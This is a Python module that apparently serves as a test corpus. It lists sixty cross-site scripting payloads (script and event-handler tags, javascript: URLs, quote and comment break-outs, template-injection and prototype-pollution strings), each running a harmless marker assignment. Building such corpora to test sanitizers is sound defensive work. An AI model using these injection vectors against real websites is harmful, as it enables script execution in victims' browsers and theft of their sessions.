"""Sixty ways to make a page run what somebody typed: as markup, in attributes, in a script's data, as a template."""

from __future__ import annotations

RUN = "window.chay=1"
_TAGS = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"</ScRiPt ><script>{RUN}</script>", f"<script\n>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f'<img src="x" onerror="{RUN}">', f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<iframe src=javascript:parent.{RUN}>", f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>", f"<a href=javascript:{RUN}>x</a>", f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>", f"<math><mi xlink:href=javascript:{RUN}>", f"<link rel=stylesheet href=data:,x onload={RUN}>",
    f"<style>@import 'data:,x';</style><script>{RUN}</script>", f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>", f"<template><script>{RUN}</script></template>",
    f"<noscript><script>{RUN}</script></noscript>", f"<xmp><script>{RUN}</script></xmp>",
)  # fmt: skip
_ENDS = (
    f"<!--<script>{RUN}</script>-->", "<!--", "-->", f"--><script>{RUN}</script>", "]]>", f"]]><script>{RUN}</script>",
    f"'><script>{RUN}</script>", f'"><script>{RUN}</script>', f"'\"><svg onload={RUN}>", f"`;{RUN};`", f"';{RUN};//",
    f'";{RUN};//', f"\\';{RUN};//", f"\\\";{RUN};//", f"}}}};{RUN};//", f"\u2028{RUN}\u2029", f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</noscript><script>{RUN}</script>",
)  # fmt: skip
_MEANINGS = (
    f"javascript:{RUN}", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", "__proto__", "constructor", f"data:text/html,<script>{RUN}</script>",
)  # fmt: skip
PAYLOADS = (*_TAGS, *_ENDS, *_MEANINGS)
